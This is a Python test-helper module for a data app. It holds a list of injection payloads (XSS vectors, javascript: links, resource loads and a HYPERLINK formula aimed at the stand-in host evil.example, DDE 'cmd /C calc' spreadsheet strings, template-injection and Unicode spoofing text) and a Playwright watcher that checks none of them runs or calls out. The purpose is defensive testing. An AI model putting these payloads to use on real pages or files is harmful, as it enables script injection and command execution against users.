"""Names and cells that try to run, to fetch, or to be something other than text, and a watch."""

import csv
import io
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import numpy as np
import pandas as pd
from playwright.sync_api import BrowserContext, ConsoleMessage, Dialog, Page, Request

__all__ = ["EVERYWHERE", "EVIL", "PAYLOADS", "Watch", "formulas", "frame"]

#: The host that none of them may reach.
EVIL = "evil.example"
_AT = f"http://{EVIL}"

PAYLOADS: tuple[str, ...] = (
    "<script>canary(1)</script>",
    "<img src=x onerror=canary(2)>",
    f'<img src="{_AT}/3.png"><style>@import "{_AT}/3.css";</style>',
    "<svg/onload=canary(4)><details open ontoggle=canary(4)>",
    f'<iframe src="{_AT}/5" srcdoc="<script>parent.canary(5)</script>"></iframe>',
    f"\"'><script src={_AT}/6.js></script><a onfocus=canary(6) autofocus tabindex=1>",
    '<a href="javascript:canary(7)">7</a>',
    f"![8]({_AT}/8.png)",
    f"[9](javascript:canary(9)) [9]({_AT}/9)",
    f"<{_AT}/10> {_AT}/10 www.{EVIL}/10",
    ":material/bug_report: :red[11] :blue-badge[11] :smile:",
    rf"$\href{{{_AT}/12}}{{12}}$ $$\includegraphics{{{_AT}/12.png}}$$ **12** `12`",
    f'=HYPERLINK("{_AT}/13","13")',
    "+1+cmd|' /C calc'!A14",
    "-2+3+cmd|' /C calc'!A15",
    "@SUM(1+1)*cmd|' /C calc'!A16",
    "\t=1+17",
    "\r=1+18",
    "{{constructor.constructor('canary(19)')()}} ${canary(19)} #{7*7} <%= canary(19) %>",
    f'<b>20</b><br><a href="{_AT}/20" target="_self">20</a><span onclick=canary(20)>20</span>',
    "%{x} %{customdata[0]} %{fullData.name}<extra>21</extra>",
    "{a|22} {b} {c} {@[0]} {d}% {value}",
    "x" * 10_000,
    "\u202e24 fdp.exe\u202c \u05d0\u05d1 \u0627\u0644",
    "2\u200b5\u200d\ufeff\u2060\u00ad",
    "2e\u03016" + "\u0336\u0489\u0301" * 60,
    "27 \U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308 \U0001f600",
    "2\x008",
    "29 one\nline two \"quoted\" 'single' `tick` \\ C:\\new\\table\\",
    "</script></style></title><script>canary(30)</script><!-- \u2028 \u2029 ]]>",
)


def frame(times: int = 3) -> pd.DataFrame:
    """A table whose columns, classes, categories and row names are the payloads.

    Args:
        times: rows of each class.
    """
    rng = np.random.default_rng(30)
    n = times * len(PAYLOADS)
    codes = np.arange(n) % len(PAYLOADS)
    angle = 2 * np.pi * codes / len(PAYLOADS)
    plane = np.column_stack([np.cos(angle), np.sin(angle)]) + 0.1 * rng.standard_normal((n, 2))
    X = plane @ rng.standard_normal((2, len(PAYLOADS)))
    X += 0.2 * rng.standard_normal(X.shape)
    X[:4, :3] = np.nan
    found = pd.DataFrame(X, columns=list(PAYLOADS))
    found.insert(0, f"id {PAYLOADS[1]}", [f"{PAYLOADS[c]} {row}" for row, c in enumerate(codes)])
    found[f"kind {PAYLOADS[3]}"] = [PAYLOADS[(c * 7) % len(PAYLOADS)] for c in codes]
    found[f"label {PAYLOADS[7]}"] = [PAYLOADS[c] for c in codes]
    return found


#: The elements that a selector finds, those inside components with a tree of their own included.
EVERYWHERE = """(selector) => {
  const within = (root) => [...root.querySelectorAll("*")].flatMap((one) =>
    [...(one.matches(selector) ? [one] : []), ...(one.shadowRoot ? within(one.shadowRoot) : [])]);
  return within(document);
}"""


@dataclass
class Watch:
    """What a page did that a name or a cell must never make it do.

    Attributes:
        home: the addresses that it may ask for begin so.
        ran: what ran.
        asked: addresses that it asked for elsewhere.
    """

    home: tuple[str, ...]
    ran: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)

    def over(self, context: BrowserContext) -> None:
        """Watch every page of a context, those that it opens included."""
        context.add_init_script(
            """(() => {
              window.canary = (which) => console.warn(`CANARY ${which}`);
              for (const name of ["alert", "confirm", "prompt", "open"]) {
                window[name] = (...said) => { console.warn(`CANARY ${name} ${said}`); };
              }
            })()"""
        )
        context.on("request", self._request)
        context.on("page", self._page)
        for page in context.pages:
            self._page(page)

    def _page(self, page: Page) -> None:
        page.on("console", self._console)
        page.on("dialog", self._dialog)

    def _console(self, message: ConsoleMessage) -> None:
        if "CANARY" in message.text:
            self.ran.append(message.text)

    def _dialog(self, dialog: Dialog) -> None:
        self.ran.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _request(self, request: Request) -> None:
        if not request.url.startswith((*self.home, "data:", "blob:", "about:")):
            self.asked.append(request.url)

    def quiet(self, page: Page) -> None:
        """Nothing ran, nothing was asked for elsewhere, and no address leads there."""
        assert self.ran == []
        assert self.asked == []
        assert _ways_out(page) == []


def _ways_out(page: Page) -> list[str]:
    """Addresses in the page that a click or the browser itself would follow elsewhere."""
    found: list[str] = page.evaluate(
        f"""() => ({EVERYWHERE})("[href], [src], [srcset], [action]")
          .flatMap((one) => ["href", "src", "srcset", "action"]
            .map((name) => one.getAttribute(name)).filter(Boolean))"""
    )
    return [
        address
        for address in found
        if EVIL in (urlsplit(address).hostname or "") or address.lower().startswith("javascript:")
    ]


_NUMBER = re.compile(r"-?(?:inf|\d+(?:\.\d+)?(?:e[+-]?\d+)?)")


def formulas(content: bytes) -> Iterator[str]:
    """Cells of a CSV file, header included, that a spreadsheet would run."""
    for row in csv.reader(io.StringIO(content.decode(), newline="")):
        for cell in row:
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not _NUMBER.fullmatch(cell):
                yield cell
